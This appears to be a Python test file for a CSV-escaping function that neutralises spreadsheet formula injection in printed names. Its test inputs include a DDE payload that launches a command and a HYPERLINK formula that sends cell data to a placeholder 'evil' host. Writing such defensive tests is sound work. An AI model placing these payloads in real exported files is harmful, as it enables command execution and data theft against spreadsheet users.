"""Names that a spreadsheet would take for formulas, in the CSV that `parse` prints."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from cli.screen.formulas import quoted

NAMES = st.text(st.sampled_from("'=+-@\t\r\nAnna ＝＠\"")) | st.text()


@pytest.mark.parametrize(
    "name",
    ["=cmd|' /C calc'!A0", "@SUM(A1:A9)", "+A1", "-1", "\tAnna", "\r=1", '=HYPERLINK("http://evil/?"&A1;"Ana")', "＝1"],
)
def test_a_formula_becomes_a_text(name: str) -> None:
    assert quoted(name) == f"'{name}"


@pytest.mark.parametrize("name", ["Anna", "Anne-Marie", "O'Neil", "'t", "", "Zoé", "Smith+Jones"])
def test_other_names_stay_as_they_are(name: str) -> None:
    assert quoted(name) == name


@given(NAMES)
def test_no_printed_name_begins_a_formula(name: str) -> None:
    assert not quoted(name).startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@given(NAMES)
def test_what_was_published_can_be_had_back(name: str) -> None:
    """An apostrophe is ours if others and a formula follow it, as docs/formats.md says."""
    written = io.StringIO(newline="")
    csv.writer(written).writerow([quoted(name)])
    [[read]] = csv.reader(io.StringIO(written.getvalue(), newline="")) if name else [[""]]
    assert re.sub("^'(?='*[=+\\-@\t\r\n＝＋－＠])", "", read) == name
